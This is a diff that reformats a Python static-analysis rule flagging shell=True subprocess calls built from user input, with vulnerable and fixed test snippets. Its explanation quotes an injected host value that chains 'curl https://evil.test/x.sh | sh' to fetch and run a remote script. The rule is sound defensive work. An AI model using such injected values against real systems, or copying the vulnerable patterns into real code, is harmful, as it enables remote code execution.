@@ -43,7 +43,7 @@ class ShellTrueCommand(Rule):
     )
     why = (
         "With `shell=True` the string goes to `/bin/sh -c`. A value such as `example.com; curl "
-        "https://evil.test/x.sh | sh` in `f\"ping -c 1 {host}\"` ends the intended command and runs the "
+        'https://evil.test/x.sh | sh` in `f"ping -c 1 {host}"` ends the intended command and runs the '
         "attacker's: a file name, a branch name or a host name from a form is enough. Quoting by hand "
         "is error-prone (`$(...)`, backticks, newlines)."
     )
@@ -77,23 +77,31 @@ class ShellTrueCommand(Rule):
         Invalid(
             'import subprocess\ndef ping(host):\n    subprocess.run(f"ping -c 1 {host}", shell=True, check=True)\n',
             'import subprocess\ndef ping(host):\n    subprocess.run(["ping", "-c", "1", host], check=True)\n',
-            message="`subprocess.run` runs a shell command built from a non-constant value", at=(3, 20, 3, 39),
+            message="`subprocess.run` runs a shell command built from a non-constant value",
+            at=(3, 20, 3, 39),
         ),
         Invalid(
             'import subprocess\nfrom flask import request\n@app.route("/c")\ndef c():\n'
             '    out = subprocess.check_output("git log " + request.args["ref"], shell=True)\n',
             'import subprocess\nfrom flask import request\n@app.route("/c")\ndef c():\n'
             '    out = subprocess.check_output(["git", "log", request.args["ref"]])\n',
-            message="built from user input (request.args)", at=(5, 35),
+            message="built from user input (request.args)",
+            at=(5, 35),
         ),
-        Invalid('import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, shell=True)\n'),
+        Invalid("import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, shell=True)\n"),
         Invalid('import subprocess\ndef f(name):\n    subprocess.run(f"grep {name} | wc -l", shell=True)\n'),
         Invalid('import asyncio\nasync def f(name):\n    await asyncio.create_subprocess_shell("echo " + name)\n'),
-        Invalid('import subprocess\ndef f(pattern):\n    subprocess.call(["sh", "-c", f"grep -R {pattern} ."], shell=True)\n'),
-        Invalid('import subprocess\ndef handler(event, context):\n    subprocess.Popen(["python3", event["script"]], shell=True)\n'),
+        Invalid(
+            'import subprocess\ndef f(pattern):\n    subprocess.call(["sh", "-c", f"grep -R {pattern} ."], shell=True)\n'
+        ),
+        Invalid(
+            'import subprocess\ndef handler(event, context):\n    subprocess.Popen(["python3", event["script"]], shell=True)\n'
+        ),
     )
     TODO = (  # `shell=True` passed in a keyword mapping is not seen
-        Invalid('import subprocess\ndef run(cmd):\n    options = {"shell": True}\n    return subprocess.run(cmd, **options)\n'),
+        Invalid(
+            'import subprocess\ndef run(cmd):\n    options = {"shell": True}\n    return subprocess.run(cmd, **options)\n'
+        ),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
@@ -118,12 +126,22 @@ class ShellTrueCommand(Rule):
         argv = argv_text(command, ctx) if callee in SUBPROCESS_CALLS and node.args and node.args[0] is command else None
         if argv is not None:
             fix = expression_fix(
-                ctx, node, lambda call: replace_arguments(argv(), drop=("shell",))(call),
-                "Fix: pass an argument list without the shell", safe=False,
+                ctx,
+                node,
+                lambda call: replace_arguments(argv(), drop=("shell",))(call),
+                "Fix: pass an argument list without the shell",
+                safe=False,
             )
         what = f"user input ({source.label})" if source else "a non-constant value"
-        ctx.report(self, command, details={"callee": callee, "what": what}, source=source, fix=fix,
-                   severity=raised(self, source), confidence=unconfirmed(self, source))
+        ctx.report(
+            self,
+            command,
+            details={"callee": callee, "what": what},
+            source=source,
+            fix=fix,
+            severity=raised(self, source),
+            confidence=unconfirmed(self, source),
+        )
 
 
 def _list_command(elts: list[ast.expr], ctx) -> ast.expr | None:
